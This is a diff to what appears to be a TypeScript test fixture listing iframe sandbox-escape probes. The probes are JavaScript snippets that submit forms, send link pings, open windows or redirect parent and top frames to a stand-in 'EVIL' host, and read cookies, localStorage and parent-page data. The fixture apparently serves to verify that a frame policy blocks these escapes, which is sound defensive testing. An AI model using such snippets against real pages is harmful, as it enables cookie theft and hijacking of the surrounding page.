@@ -169,11 +169,15 @@ export const FRAME_ESCAPES: Record<string, string> = {
   form: "(() => { const form = document.createElement('form'); form.action = 'http://EVIL/form'; form.method = 'post'; document.body.append(form); form.submit() })()",
   'form to a new window':
     "(() => { const form = document.createElement('form'); form.action = 'http://EVIL/form'; form.target = '_blank'; document.body.append(form); form.submit() })()",
-  ping: "(() => { const link = document.createElement('a'); link.href = '#x'; link.ping = 'http://EVIL/ping'; document.body.append(link); link.click() })()",
   'new window': "open('http://EVIL/window') ? 'REACHED' : 'refused'",
   'parent document': "parent.document.title + 'REACHED'",
   'parent variable': "parent.lab + 'REACHED'",
+  'page document': "top.document.title + 'REACHED'",
+  'page variable': "top.lab + 'REACHED'",
+  'parent location': "(() => { parent.location.href = 'http://EVIL/parent' })()",
   'top location': "(() => { top.location.href = 'http://EVIL/top' })()",
   'its storage': "localStorage.length + 'REACHED'",
   'its cookie': "document.cookie + 'REACHED'",
+  // The last: its link leads away from the frame's text, which the policy refuses, and the frame is lost.
+  ping: "(() => { const link = document.createElement('a'); link.href = '#x'; link.ping = 'http://EVIL/ping'; document.body.append(link); link.click() })()",
 }
